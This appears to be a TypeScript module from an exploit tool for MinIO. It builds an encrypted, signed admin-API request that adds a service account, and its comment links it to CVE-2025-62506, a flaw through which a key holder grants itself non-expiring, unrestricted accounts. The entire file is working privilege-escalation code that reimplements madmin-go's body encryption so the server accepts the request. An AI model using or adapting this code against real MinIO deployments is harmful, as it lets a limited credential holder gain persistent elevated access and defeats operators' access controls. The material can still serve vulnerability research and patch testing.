import { createCipheriv, pbkdf2Sync, randomBytes } from "node:crypto";
import type { SignedCall } from "./signed-call.ts";

/**
 * Makes the call by which a holder of keys of MinIO gives itself others, which do not end and which
 * older versions do not bind (CVE-2025-62506). Its body is sealed by the holder's secret, as
 * `EncryptData` of madmin-go does it.
 */
export function serviceAccountCall(secretKey: string, account: string): SignedCall {
  const [salt, nonce] = [randomBytes(32), randomBytes(8)];
  const key = pbkdf2Sync(secretKey, salt, 8192, 32, "sha256");
  const seal = (at: number, associated: Uint8Array, text: string) => {
    const cipher = createCipheriv("aes-256-gcm", key, Buffer.from([...nonce, at, 0, 0, 0]));
    cipher.setAAD(associated);
    return Buffer.concat([cipher.update(text), cipher.final(), cipher.getAuthTag()]);
  };
  // The last of the pieces, each bound to the same empty first one.
  const last = Buffer.from([0x80, ...seal(0, new Uint8Array(), "")]);
  const asked = JSON.stringify({ accessKey: account, secretKey: `${account}-secret` });
  const body = Buffer.concat([salt, PBKDF2_AES_GCM, nonce, seal(1, last, asked)]);
  return { method: "PUT", path: "/minio/admin/v3/add-service-account", body };
}

const PBKDF2_AES_GCM = Uint8Array.of(2);
